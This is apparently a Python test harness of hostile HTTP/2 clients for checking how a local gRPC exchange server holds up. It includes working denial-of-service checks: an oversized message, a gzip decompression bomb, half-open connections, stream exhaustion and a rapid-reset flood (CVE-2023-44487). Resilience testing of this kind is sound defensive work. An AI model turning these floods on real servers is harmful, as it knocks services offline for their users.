"""Clients that mean no good to a gRPC server, in plain HTTP/2 frames (RFC 9113), bounded in number and time.

Each check sends to a server on this machine that was started for it and returns what became of it, in words. It goes on
for seconds; whether the server still answers others meanwhile is for who calls to see.
"""

import asyncio
import contextlib
import gzip
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
_NAMES: Final = {DATA: "DATA", HEADERS: "HEADERS", RST_STREAM: "RST_STREAM", GOAWAY: "GOAWAY"}
_END_HEADERS, _END_STREAM, _ACK = 4, 1, 1
_INITIAL_WINDOW: Final = 4
_CANCEL: Final = (8).to_bytes(4, "big")
_FRAME_BYTES: Final = 16_384

CHEAP: Final = "/clob.v1.MarketDataService/GetExchange"
BOOK: Final = "/clob.v1.MarketDataService/StreamBook"
SUBMIT: Final = "/clob.v1.OrderService/Submit"

SECONDS: Final = 5.0
MIB: Final = 1 << 20
HUGE_MIB: Final = 256
BOMB_MIB: Final = 512
CONNECTIONS: Final = 200
STREAMS: Final = 2_000
RESETS_MAX: Final = 200_000
SLOW: Final = 16
HALF_OPEN_S: Final = 13.0
"""Longer than the 10 s in which a client has to say what it wants."""


def _field(name: str, value: str) -> bytes:
    """Return a header field, literally and without indexing (RFC 7541, section 6.2.2); both under 127 bytes."""
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def head_of(path: str, *more: tuple[str, str]) -> bytes:
    """Return the header block of a call."""
    fields = (
        *((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")),
        *(("content-type", "application/grpc"), ("te", "trailers")),
        *more,
    )
    return b"".join(_field(*field) for field in fields)


def message(payload: bytes = b"", *, compressed: bool = False) -> bytes:
    """Return a message as gRPC frames it."""
    return bytes([compressed]) + len(payload).to_bytes(4, "big") + payload


class Connection:
    """A connection that says what it is told to.

    Attributes:
        got: frames that came, by type.
        goaway: why the server wants no more; empty: it does.
        is_closed: the server has closed it.
    """

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer
        self.got: Counter[int] = Counter()
        self.goaway = ""
        self.is_closed = False
        self._room = 65_535
        self._stream_room = 65_535
        self._more = asyncio.Event()
        self._reading = asyncio.create_task(self._read())

    @classmethod
    async def open(cls, address: str, settings: Mapping[int, int] | None = None) -> "Connection":
        """Connect and say what HTTP/2 begins with."""
        host, _, port = address.rpartition(":")
        connection = cls(*await asyncio.open_connection(host, int(port)))
        body = b"".join(key.to_bytes(2, "big") + value.to_bytes(4, "big") for key, value in (settings or {}).items())
        connection._writer.write(PREFACE)
        connection.send(SETTINGS, 0, 0, body)
        return connection

    def send(self, kind: int, flags: int, stream: int, body: bytes = b"") -> None:
        """Write a frame; to nobody, where the connection has failed."""
        if self._writer.is_closing():
            self.is_closed = True
            return
        self._writer.write(len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body)

    def call(self, stream: int, head: bytes, payload: bytes | None = None) -> None:
        """Begin a call; with a message it is complete."""
        self.send(HEADERS, _END_HEADERS, stream, head)
        if payload is not None:
            self.send(DATA, _END_STREAM, stream, message(payload))

    async def send_much(self, stream: int, part_at: Callable[[int, int], bytes], size: int) -> int:
        """Send data on the connection's one stream as the windows allow, until the server answers.

        Args:
            stream: of a call that has begun.
            part_at: returns the data from a place on, so much of them.
            size: of all data.

        Returns:
            How much the server took.
        """
        sent = 0
        while sent < size and not self.is_closed and not (self.got[RST_STREAM] or self.got[GOAWAY]):
            room = min(_FRAME_BYTES, self._room, self._stream_room, size - sent)
            if not room:
                self._more.clear()
                await self._more.wait()
                continue
            self.send(DATA, 0 if sent + room < size else _END_STREAM, stream, part_at(sent, room))
            self._room -= room
            self._stream_room -= room
            sent += room
            await self.drain()
        return sent

    async def drain(self) -> bool:
        """Wait until the server has taken what was sent; return whether it is still there."""
        try:
            await self._writer.drain()
        except (ConnectionError, OSError):
            self.is_closed = True
        return not self.is_closed

    async def close(self) -> None:
        """Leave."""
        self._reading.cancel()
        self._writer.close()
        with contextlib.suppress(ConnectionError, OSError):
            await self._writer.wait_closed()

    def said(self) -> str:
        """Return what the server has answered with."""
        parts = [f"{count:,} {_NAMES[kind]}" for kind, count in sorted(self.got.items()) if kind in _NAMES]
        return ", ".join((*parts, *([self.goaway] if self.goaway else []), *(["closed"] if self.is_closed else [])))

    async def _read(self) -> None:
        with contextlib.suppress(ConnectionError, OSError, asyncio.IncompleteReadError):
            while True:
                head = await self._reader.readexactly(9)
                kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
                body = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                self.got[kind] += 1
                if kind in (SETTINGS, PING) and not flags & _ACK:
                    self.send(kind, _ACK, 0, body if kind == PING else b"")
                if kind == SETTINGS:
                    for place in range(0, len(body), 6):
                        if int.from_bytes(body[place : place + 2], "big") == _INITIAL_WINDOW:
                            self._stream_room += int.from_bytes(body[place + 2 : place + 6], "big") - 65_535
                elif kind == WINDOW_UPDATE and stream:
                    self._stream_room += int.from_bytes(body, "big")
                elif kind == WINDOW_UPDATE:
                    self._room += int.from_bytes(body, "big")
                elif kind == GOAWAY:
                    self.goaway = (
                        f"error {int.from_bytes(body[4:8], 'big')} {body[8:].decode(errors='replace')}".strip()
                    )
                self._more.set()
        self.is_closed = True
        self._more.set()


# --- the checks -----------------------------------------------------------------------------------------------------


async def oversized(address: str) -> str:
    """Send a message of 256 MiB, where 8 MiB are the most."""
    connection = await Connection.open(address)
    connection.call(1, head_of(SUBMIT))
    head, zeros = b"\0" + (HUGE_MIB * MIB).to_bytes(4, "big"), bytes(_FRAME_BYTES)

    def part_at(place: int, size: int) -> bytes:
        return head + zeros[: size - len(head)] if not place else zeros[:size]

    async with asyncio.timeout(4 * SECONDS):
        taken = await connection.send_much(1, part_at, len(head) + HUGE_MIB * MIB)
    await asyncio.sleep(1)
    said = connection.said()
    await connection.close()
    return f"took {taken / MIB:,.0f} of {HUGE_MIB} MiB; {said}"


async def bomb(address: str) -> str:
    """Send 512 MiB of zeros in a gzip of half a MiB."""
    packed = gzip.compress(bytes(BOMB_MIB * MIB), 9)
    framed = message(packed, compressed=True)
    connection = await Connection.open(address)
    connection.call(1, head_of(SUBMIT, ("grpc-encoding", "gzip")))
    async with asyncio.timeout(4 * SECONDS):
        taken = await connection.send_much(1, lambda place, size: framed[place : place + size], len(framed))
    await asyncio.sleep(2)
    said = connection.said()
    await connection.close()
    return f"took {taken / MIB:.1f} MiB that unpack to {BOMB_MIB}; {said}"


async def half_open(address: str) -> str:
    """Open connections that say half of what HTTP/2 begins with, and as many that begin a call and leave it at that."""
    host, _, port = address.rpartition(":")
    mute = [await asyncio.open_connection(host, int(port)) for _ in range(CONNECTIONS)]
    for _, writer in mute:
        writer.write(PREFACE[:10])
    begun = [await Connection.open(address) for _ in range(CONNECTIONS)]
    for connection in begun:
        connection.call(1, head_of(CHEAP))
    await asyncio.sleep(HALF_OPEN_S)
    ended = sum(reader.at_eof() for reader, _ in mute)
    dropped = sum(connection.is_closed for connection in begun)
    for _, writer in mute:
        writer.close()
    await asyncio.gather(*(connection.close() for connection in begun))
    return f"after {HALF_OPEN_S:.0f} s {ended} of {CONNECTIONS} mute ones were closed, and {dropped} with a call begun"


async def many_streams(address: str) -> str:
    """Begin 2,000 calls on a connection and end none."""
    connection = await Connection.open(address)
    head = head_of(CHEAP)
    for number in range(STREAMS):
        connection.call(2 * number + 1, head)
    await connection.drain()
    await asyncio.sleep(SECONDS)
    said = connection.said()
    await connection.close()
    return said or "all are open"


async def rapid_reset(address: str) -> str:
    """Call and take back at once, for seconds (CVE-2023-44487)."""
    head, sent, connections = head_of(CHEAP), 0, 0
    until_s = time.monotonic() + SECONDS
    last = ""
    while time.monotonic() < until_s and sent < RESETS_MAX:
        connection = await Connection.open(address)
        connections += 1
        stream = 1
        while sent < RESETS_MAX and time.monotonic() < until_s and not (connection.is_closed or connection.got[GOAWAY]):
            for _ in range(50):
                connection.call(stream, head, b"")
                connection.send(RST_STREAM, 0, stream, _CANCEL)
                stream += 2
                sent += 1
            # As fast as the server reads, and it is heard in between.
            await connection.drain()
            await asyncio.sleep(0)
        last = connection.said() or last
        await connection.close()
    return f"{sent:,} calls on {connections:,} connections; the last one got {last or 'nothing'}"


async def slow_readers(address: str, stir: Callable[[], Awaitable[None]]) -> list[Connection]:
    """Return connections with a stream of a book each that take nothing of it, while the book changes."""
    request = b"\x0a\x01\x01\x10\x01"  # markets: [1]; every_command: true
    slow = []
    for _ in range(SLOW):
        connection = await Connection.open(address, {_INITIAL_WINDOW: 0})
        connection.call(1, head_of(BOOK), request)
        await connection.drain()
        slow.append(connection)
    await asyncio.sleep(0.5)
    await stir()
    return slow


CHECKS: Final[Mapping[str, Callable[[str], Awaitable[str]]]] = {
    "message of 256 MiB": oversized,
    "gzip of 512 MiB": bomb,
    "half-open connections": half_open,
    "2,000 streams": many_streams,
    "rapid reset": rapid_reset,
}
